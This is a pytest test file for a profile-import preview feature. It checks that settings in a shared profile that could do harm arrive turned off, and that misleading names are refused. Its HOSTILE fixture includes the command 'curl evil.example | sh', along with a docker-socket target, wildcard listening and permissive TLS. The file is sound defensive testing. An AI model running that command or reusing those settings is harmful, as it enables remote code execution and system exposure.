"""Profiles from somebody else: nothing of the taker's is used, opened or asked before it is said."""

from __future__ import annotations

import os
import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from wsgui.errors import ProfileError, UsageError
from wsgui.profiles.model import Profile
from wsgui.profiles.reading import read_profile
from wsgui.profiles.sharing import export_text, preview

Make = Callable[..., Profile]

HOSTILE = """
name = "Office"
listen = "*:443"
target = "unix:/run/docker.sock"
[tls]
certificate_file = "/home/me/private/cert.pem"
key_file = "C:\\\\Users\\\\me\\\\key.pem"
key_password = "keyring:bank"
only = false
ciphers = "ALL"
[access]
origins = ["same-host", "*"]
hosts = ["*"]
[web]
root = "/home/me"
frames = ["https://evil.example"]
[command]
run = ["sh", "-c", "curl evil.example | sh"]
"""


def test_what_could_do_harm_arrives_off_and_listed() -> None:
    found = preview(HOSTILE.encode(), "office.toml")
    assert {each.field: each.value for each in found.turned_off} == {
        "autostart": "true",
        "listen": '"*:443"',
        "target": '"unix:/run/docker.sock"',
        "tls.key_password": '"keyring:bank"',
        "tls.certificate_file": '"/home/me/private/cert.pem"',
        "tls.key_file": '"C:\\Users\\me\\key.pem"',
        "web.root": '"/home/me"',
        "access.origins": '["same-host", "*"]',
        "access.hosts": '["*"]',
        "tls.only": "false",
        "tls.ciphers": '"ALL"',
        "web.frames": '["https://evil.example"]',
        "command": '{run = ["sh", "-c", "curl evil.example | sh"]}',
    }
    assert all(each.reason for each in found.turned_off)
    assert found.accept() == found.profile
    assert found.profile.settings() == {
        "name": "Office",
        "listen": "127.0.0.1:443",
        "target": "demo:",
        "autostart": False,
        "tls": {
            "certificate_file": "unbound:cert.pem",
            "key_file": "unbound:key.pem",
            "key_password": "unbound:bank",
        },
    }


def test_what_is_trusted_is_kept() -> None:
    found = preview(HOSTILE.encode(), "office.toml")
    kept = found.accept(["listen", "tls.key_password", "access.origins", "autostart"])
    assert str(kept.listen) == "*:443"
    assert kept.tls.key_password == "keyring:bank"
    assert kept.access.origins == ("same-host", "*")
    assert kept.autostart
    assert kept.tls.certificate_file == "unbound:cert.pem"


def test_keeping_what_does_not_go_together_is_refused() -> None:
    with pytest.raises(ProfileError, match="a target and a command"):
        preview(HOSTILE.encode(), "office.toml").accept(["command"])


def test_only_what_was_turned_off_can_be_kept() -> None:
    with pytest.raises(UsageError, match='"group" was not turned off'):
        preview(HOSTILE.encode(), "office.toml").accept(["group"])


def test_a_preview_opens_no_path_and_asks_no_name(monkeypatch: pytest.MonkeyPatch) -> None:
    def never(*args: object, **kwargs: object) -> Any:
        raise AssertionError(args)

    for module, name in ((os, "open"), (os, "stat"), (os, "lstat"), (socket, "getaddrinfo"), (socket, "socket")):
        monkeypatch.setattr(module, name, never)
    found = preview(HOSTILE.encode(), "office.toml")
    found.accept(["listen", "tls.certificate_file"])


def test_a_harmless_profile_loses_only_its_autostart() -> None:
    text = b'name = "x"\ntarget = "office:5901"\nlisten = "[::1]:6080"\n[limits]\nidle_seconds = 3\n'
    found = preview(text, "x.toml")
    assert [each.field for each in found.turned_off] == ["autostart"]
    assert found.accept(["autostart"]) == read_profile(text, "x.toml")


@pytest.mark.parametrize("listen", ["0.0.0.0:1", "[::]:1", "192.168.0.1:1", "localhost.evil.example:1", "fd:3"])
def test_listening_beyond_this_computer_arrives_off(listen: str) -> None:
    found = preview(f'name = "x"\ntarget = "a:1"\nlisten = "{listen}"\nautostart = false\n'.encode(), "x.toml")
    assert [each.field for each in found.turned_off] == ["listen"]
    assert str(found.profile.listen).startswith("127.0.0.1:")


def test_what_is_shown_of_it_can_steer_no_terminal() -> None:
    text = 'name = "x"\ntarget = "a:1"\n[web]\nroot = "/\\u001b[2J"\n'
    with pytest.raises(ProfileError) as caught:
        preview(text.encode(), "x.toml").accept(["web.root"])
    assert str(caught.value).isprintable()
    values = [each.value for each in preview(text.encode(), "x.toml").turned_off]
    assert '"/\\x1b[2J"' in values


@pytest.mark.parametrize(
    "name",
    ["--profile", "a\\nb", "\\\\\\\\host\\\\x", "x\\u202ey", "../x"],
    ids=["option", "line", "unc", "bidi", "path"],
)
def test_a_name_that_could_mislead_is_refused(name: str) -> None:
    with pytest.raises(ProfileError) as caught:
        preview(f'name = "{name}"\ntarget = "a:1"\n'.encode(), "x.toml")
    assert caught.value.problems[0].field == "name"


def test_a_broken_profile_has_its_problems_reported_with_lines() -> None:
    with pytest.raises(ProfileError) as caught:
        preview(b'name = "x"\ntarget = "a"\nlisten = 1.5\n', "x.toml")
    assert [problem.field for problem in caught.value.problems] == ["target", "listen"]


def test_an_export_names_no_secret_and_imports_as_it_was(make: Make, tmp_path: Path) -> None:
    tls = {"certificate_file": "/a", "key_password": "file:/home/me/secrets/office.txt"}
    text = export_text(make(tls=tls, limits={"idle_seconds": 4}))
    assert "/home/me" not in text
    assert 'key_password = "unbound:office.txt"' in text
    assert read_profile(text.encode(), "x").limits.idle_seconds == 4
